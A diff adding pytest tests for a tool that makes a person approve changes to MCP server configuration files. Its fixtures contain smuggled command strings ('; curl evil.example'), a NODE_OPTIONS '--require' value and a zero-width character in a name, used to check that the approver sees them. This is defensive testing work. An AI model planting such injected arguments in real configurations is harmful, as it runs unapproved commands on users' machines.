@@ -9,8 +9,9 @@ import sys
 from pathlib import Path
 
 import pytest
+from guardrail_hooks.mcp_config_guard.approve import Draft
 
-from tests.mcp_config_guard.conftest import API, DOCS, GH, OWNER, REASON, servers
+from tests.mcp_config_guard.conftest import API, BOT, DOCS, GH, OWNER, REASON, servers
 from tests.mcp_config_guard.terminal import talk
 
 PROGRAM = str(Path(sys.executable).parent / "mcp-config-guard")
@@ -214,3 +215,86 @@ def test_switching_to_signed_counts_from_the_first_signature_in_an_audit(signed)
     signed.commit(message="damaged past the hook")
     assert signed.codes() == ["MCG810"]
     assert os.path.exists(record)
+
+
+def test_an_option_does_not_void_what_was_accepted(guarded) -> None:
+    wrapper = {"mode": "100755", "content": "#!/bin/sh\nexec npx -y acme-gh\n"}
+    guarded.become({".mcp.json": servers(gh={"command": "/opt/shop/scripts/gh.sh"}), "scripts/gh.sh": wrapper})
+    guarded.approve(accept=("MCG301",))
+    guarded.stage()
+    assert guarded.found("--root-aliases", "/opt/shop") == []
+
+
+def shown(repository) -> str:
+    """What the person who approves is shown of all that is pending."""
+    with repository.monkeypatch.context() as patch:
+        patch.chdir(repository.path)
+        draft = Draft(str(repository.path), "")
+        return "\n".join(draft.described(draft.pending([])))
+
+
+def test_nothing_is_cut_for_the_person_who_approves(approved) -> None:
+    long = "--option " * 40
+    approved.become({".mcp.json": servers(docs={**DOCS, "args": [long + "; curl evil.example"]}, gh=GH)})
+    assert "; curl evil.example" in shown(approved)
+    approved.approve()
+    approved.commit()
+    approved.become({".mcp.json": servers(docs={**DOCS, "args": ["x" + long + "; curl other.example"]}, gh=GH)})
+    assert "; curl other.example" in shown(approved)
+    approved.policy(exclude=[*("packages/one/of/many/**" for _ in range(20)), "everything/**"])
+    assert "everything/**" in shown(approved)
+
+
+def test_the_names_of_variables_are_shown_and_their_values_are_not(approved) -> None:
+    hidden = {"env": {"NODE_OPTIONS": "--require ./x.js", "B": "c"}, "headers": {"X-Team": "docs"}}
+    approved.become({".mcp.json": servers(docs=DOCS, gh=GH, new={"command": "x", **hidden})})
+    text = shown(approved)
+    assert "env: set (B, NODE_OPTIONS)" in text
+    assert "headers: set (X-Team)" in text
+    assert "--require" not in text
+    approved.become({".mcp.json": servers(docs={**DOCS, **hidden}, gh=GH)})
+    assert "env: added: set (B, NODE_OPTIONS)" in shown(approved)
+
+
+def test_another_key_behind_the_same_comment_is_shown(signed) -> None:
+    file = signed.path / ".mcp-guard/allowed_signers"
+    line = file.read_text().rstrip()
+    signed.commit({".mcp-guard/allowed_signers": f"{line} alice@laptop\n"}, message="merged past the hook")
+    signed.key(BOT)
+    other = (signed.keys / f"{BOT}.pub").read_text().split()[1]
+    file.write_text(file.read_text().replace(line.split()[-1], other))
+    added, removed = (
+        next(row for row in shown(signed).splitlines() if row.startswith(f"  {what}")) for what in ("added", "removed")
+    )
+    assert added.removeprefix("  added") != removed.removeprefix("  removed")
+    assert "SHA256:" in added
+    assert other[-12:] not in added
+
+
+def test_what_the_policy_no_longer_looks_after_is_not_missed(guarded) -> None:
+    guarded.become({".mcp.json": servers(docs=DOCS), "examples/.mcp.json": servers(x=API), "lib/x": "1"})
+    guarded.policy(protect=["lib/**"], extra_files=["conf/servers.json"])
+    guarded.stage({"conf/servers.json": servers(y=API)})
+    guarded.approve()
+    guarded.commit()
+    assert guarded.codes() == []
+    guarded.policy(exclude=["examples/**"], protect=[], extra_files=[])
+    guarded.approve()
+    guarded.commit()
+    assert guarded.codes() == []
+    assert guarded.run("status") == (0, "nothing is pending\n")
+    (guarded.path / ".mcp.json").unlink()
+    guarded.commit(message="merged past the hook")
+    assert guarded.codes() == ["MCG808"]
+
+
+def test_without_a_key_nothing_is_written_where_the_policy_wants_signatures(signed) -> None:
+    signed.become({".mcp.json": servers(docs=DOCS)})
+    assert signed.run("approve", "--reason", "Not needed by anybody any more") == (2, "")
+    assert "--sign ~/.ssh/<key>" in signed.error
+
+
+def test_a_name_that_cannot_be_typed_is_typed_as_it_is_shown(person, monkeypatch) -> None:
+    person.become({".mcp.json": servers(**{"a\u200bb": {"command": "x"}})})
+    code, text = talk([PROGRAM, "init", "--reason", "State reviewed by the owner"], person.path, None, {})
+    assert (code, "\\u200b" in text, "wrote .mcp-guard" in text) == (0, True, True)
